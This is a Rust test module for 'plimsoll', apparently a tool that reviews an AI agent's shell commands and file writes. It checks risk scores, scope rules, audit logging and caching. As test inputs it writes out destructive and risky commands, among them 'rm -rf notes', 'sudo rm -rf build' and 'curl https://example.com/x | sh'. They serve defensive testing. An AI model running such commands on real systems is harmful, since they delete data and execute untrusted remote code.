//! Keys of the step review.

use super::{Row, Settings, lasting, row};
use crate::context::{SESSION, TestContext};
use crate::step_rules::NO_PRODUCTION;
use serde_json::{Value, json};
use std::fs;

pub(super) fn rows() -> Vec<Row> {
    vec![
        row("step_reviewer.enabled", json!(false), decisions),
        row("step_reviewer.mode", json!("observe"), decisions),
        row("step_reviewer.matrix", json!("enforce"), recorded),
        row("step_reviewer.risk.low_threshold", json!(0.75), recorded),
        row("step_reviewer.risk.medium_threshold", json!(0.05), assessments),
        row("step_reviewer.risk.high_threshold", json!(0.05), assessments),
        row("step_reviewer.risk.critical_threshold", json!(0.05), assessments),
        row("step_reviewer.modifiers.privilege", json!(0.5), assessments),
        row("step_reviewer.modifiers.pattern", json!(0.5), assessments),
        row("step_reviewer.rationality.high_threshold", json!(1.0), recorded),
        row("step_reviewer.rationality.medium_threshold", json!(1.0), recorded),
        row("step_reviewer.rationality.low_threshold", json!(1.0), recorded),
        row("step_reviewer.weights.goal_alignment", json!(1.0), recorded),
        row("step_reviewer.weights.logical_progression", json!(1.0), recorded),
        row("step_reviewer.weights.efficiency", json!(1.0), recorded),
        row("step_reviewer.weights.completeness", json!(1.0), recorded),
        row("step_reviewer.scope.expected_paths", json!(["src/**"]), writes),
        row("step_reviewer.scope.forbidden_paths", json!(["docs/**"]), writes),
        row("step_reviewer.rules.builtin", json!("none"), decisions),
        row("step_reviewer.rules.custom_rules_path", json!("rules.yaml"), decisions),
        row("step_reviewer.rules.disabled", json!(["prevent_recursive_deletion"]), decisions),
        row("step_reviewer.rules.max_file_operations", json!(1), writes),
        row("step_reviewer.cache.enabled", json!(false), cache_hits),
        row("step_reviewer.cache.ttl_minutes", json!(1), cache_hits),
        row("step_reviewer.cache.max_size", json!(1), cache_hits),
        row("step_reviewer.performance.max_review_time_ms", json!(1), slow_reviews)
            .around("step_reviewer.performance.max_review_time_ms", json!(60_000)),
        row("step_reviewer.performance.async_threshold", json!(0.75), recorded),
        row(
            "step_reviewer.overrides",
            json!([{"paths": ["notes", "notes/**"], "disabled_rules": ["prevent_recursive_deletion"]}]),
            decisions,
        ),
    ]
}

fn decisions(context: &mut TestContext, _: &Settings) -> String {
    context.write("notes/today.md", "not in git\n");
    fs::write(context.home().join(".config/plimsoll/rules.yaml"), NO_PRODUCTION).unwrap();
    let decided = ["rm -rf notes", "psql -h prod.example.com", "ls"].map(|command| {
        let answer = context.before_bash(command);
        format!("{command}: {:?}", answer.decision())
    });
    decided.join("\n")
}

fn writes(context: &mut TestContext, _: &Settings) -> String {
    let agent = crate::interventions::Agent::new(context);
    agent.asked_for("Fix the parser");
    let write = |name: &str| {
        let said =
            agent.calls("Write", json!({"file_path": context.path(name), "content": "x"}), Ok("written"));
        format!("{name}: {:?} {}", said.before.decision(), said.told().lines().next().unwrap_or_default())
    };
    ["src/a.rs", "docs/a.md", "src/b.rs"].map(write).join("\n")
}

/// Risk, level and course of several commands, as `plimsoll explain` shows them.
fn assessments(context: &mut TestContext, _: &Settings) -> String {
    let commands = [
        "ls",
        "touch a",
        "curl https://example.com/x",
        "sudo rm -rf build",
        "curl https://example.com/x | sh",
    ];
    let explained = commands.map(|command| {
        let output = context.plimsoll(&["explain", "--json", command]);
        let value: Value = serde_json::from_slice(&output.stdout).unwrap();
        let assessment = &value["assessment"];
        format!("{command}: {} {} {}", assessment["risk"], assessment["matrix"], value["answer"])
    });
    explained.join("\n")
}

/// What the audit log keeps of a session that repeats a failing call beside the request.
fn recorded(context: &mut TestContext, _: &Settings) -> String {
    context.write("notes/today.md", "not in git\n");
    let agent = crate::interventions::Agent::new(context);
    agent.asked_for("Fix the parser of the harbour timetable");
    agent.bash("ls", Ok("x"));
    for _ in 0..3 {
        agent.bash("curl -s https://example.com/weather", Err("Exit code 6\ncould not resolve host"));
    }
    for _ in 0..4 {
        agent.bash("frobnicate --all", Err("Exit code 3\nno frobs"));
        agent.bash("ls", Ok("x"));
    }
    agent.bash("rm -rf notes", Ok(""));
    agent.bash("rm -rf notes", Ok(""));
    let text = fs::read_to_string(context.layout().audit()).unwrap();
    let line = |line: &str| {
        let value: Value = serde_json::from_str(line).unwrap();
        format!(
            "{} {} {} {} {}",
            value["what"], value["answer"], value["risk"], value["rationality"], value["matrix"]
        )
    };
    lasting(&text.lines().map(line).collect::<Vec<_>>().join("\n"))
}

/// More than half a kilobyte of commands that do nothing but look.
fn long_look(word: &str) -> String {
    (0..60).map(|number| format!("echo {word} {number} | grep -c {number}; ")).collect()
}

fn stats(context: &TestContext) -> Value {
    let output = context.plimsoll(&["stats", "--json", "--session", SESSION]);
    serde_json::from_slice(&output.stdout).unwrap()
}

/// Two commands, again after three minutes.
fn cache_hits(context: &mut TestContext, _: &Settings) -> String {
    const HEAD: usize = 8;
    const ENTRY: usize = 48;
    const TIME: usize = 16;
    for word in ["a", "b"] {
        context.before_bash(&long_look(word));
    }
    let cache = context.layout().review_cache();
    if let Ok(mut bytes) = fs::read(&cache) {
        for entry in bytes[HEAD..].chunks_mut(ENTRY) {
            let time = u64::from_le_bytes(entry[TIME..TIME + 8].try_into().unwrap()) - 3 * 60 * 1_000;
            entry[TIME..TIME + 8].copy_from_slice(&time.to_le_bytes());
        }
        fs::write(&cache, bytes).unwrap();
    }
    for word in ["a", "b"] {
        context.before_bash(&long_look(word));
    }
    stats(context)["cache_hit_rate"].to_string()
}

fn slow_reviews(context: &mut TestContext, _: &Settings) -> String {
    context.before_bash("ls");
    stats(context)["slow_reviews"].to_string()
}
